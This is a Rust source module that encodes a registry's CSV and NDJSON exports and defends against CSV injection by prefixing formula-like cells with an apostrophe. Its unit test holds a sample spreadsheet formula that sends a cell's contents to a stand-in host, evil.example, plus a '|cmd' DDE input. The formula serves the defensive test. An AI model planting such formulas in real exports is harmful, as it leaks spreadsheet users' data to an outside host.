//! The registry's file formats: for each entity, the CSV header and record layout and the NDJSON
//! line, used by the exporter and (where a format can be imported) by the importer, so a column is
//! named and placed in one place only. No HTTP here: the API streams what this module encodes.

mod assessments;
mod campaigns;
mod deployments;
mod foi;
mod matrix;
mod sources;

use bytes::Bytes;
use serde::Serialize;

pub use deployments::deployment_from_record;
pub use foi::AnswerRow;
pub use matrix::MatrixCell;

/// The file formats of an export.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Format {
    Csv,
    Ndjson,
}

impl Format {
    /// The format named by a file extension.
    pub fn from_extension(raw: &str) -> Option<Self> {
        match raw {
            "csv" => Some(Self::Csv),
            "ndjson" => Some(Self::Ndjson),
            _ => None,
        }
    }

    pub fn content_type(self) -> &'static str {
        match self {
            Self::Csv => "text/csv; charset=utf-8",
            Self::Ndjson => "application/x-ndjson",
        }
    }

    pub fn extension(self) -> &'static str {
        match self {
            Self::Csv => "csv",
            Self::Ndjson => "ndjson",
        }
    }
}

/// A row that can be exported: as a JSON line (its serde shape, always the raw values), or as a
/// CSV record under a fixed header.
pub trait ExportRow: Serialize + Send + 'static {
    const HEADER: &'static [&'static str];
    fn record(&self) -> Vec<String>;
}

fn opt<T: ToString>(value: &Option<T>) -> String {
    value.as_ref().map(ToString::to_string).unwrap_or_default()
}

/// Several values in one CSV cell.
fn joined(values: &[String]) -> String {
    values.join("; ")
}

/// Several values of one CSV cell, as [`joined`] wrote them.
fn split(cell: &str) -> Vec<String> {
    cell.split("; ")
        .map(str::trim)
        .filter(|v| !v.is_empty())
        .map(str::to_owned)
        .collect()
}

/// Encodes a page of rows; the CSV header goes before the first page only.
pub fn encode<T: ExportRow>(format: Format, rows: &[T], with_header: bool) -> Bytes {
    match format {
        Format::Csv => {
            let mut writer = csv::Writer::from_writer(Vec::with_capacity(rows.len() * 256));
            if with_header {
                writer.write_record(T::HEADER).expect("writing to memory");
            }
            for row in rows {
                writer
                    .write_record(row.record().into_iter().map(neutralise_formula))
                    .expect("writing to memory");
            }
            writer.into_inner().expect("writing to memory").into()
        }
        Format::Ndjson => {
            let mut out = Vec::with_capacity(rows.len() * 512);
            for row in rows {
                serde_json::to_writer(&mut out, row).expect("rows serialise");
                out.push(b'\n');
            }
            out.into()
        }
    }
}

/// The first characters that make a spreadsheet read a cell as a formula (OWASP's list for CSV
/// injection, plus `|` for DDE).
const FORMULA_STARTS: [char; 7] = ['=', '+', '-', '@', '|', '\t', '\r'];

/// A CSV cell a spreadsheet will show as text: a value that starts like a formula gets a leading
/// apostrophe, as OWASP recommends. A value that already starts with an apostrophe gets one more, so
/// [`restore_formula`] can always undo it; NDJSON carries every value raw.
pub fn neutralise_formula(cell: String) -> String {
    if cell.starts_with(FORMULA_STARTS) || cell.starts_with('\'') {
        let mut out = String::with_capacity(cell.len() + 1);
        out.push('\'');
        out.push_str(&cell);
        out
    } else {
        cell
    }
}

/// The value [`neutralise_formula`] was given.
pub fn restore_formula(cell: &str) -> &str {
    cell.strip_prefix('\'').unwrap_or(cell)
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    #[test]
    fn formulas_are_shown_as_text() {
        let attack = r#"=HYPERLINK("http://evil.example/?"&A1,"Click")"#;
        assert_eq!(neutralise_formula(attack.into()), format!("'{attack}"));
        for start in ["+1", "-1", "@SUM(A1)", "|cmd", "\tx", "\rx"] {
            assert!(neutralise_formula(start.into()).starts_with('\''));
        }
        assert_eq!(neutralise_formula("Kent Police".into()), "Kent Police");
    }

    proptest! {
        #[test]
        fn neutralising_round_trips(cell in any::<String>()) {
            let shown = neutralise_formula(cell.clone());
            prop_assert!(!shown.starts_with(FORMULA_STARTS));
            prop_assert_eq!(restore_formula(&shown), cell.as_str());
        }
    }
}
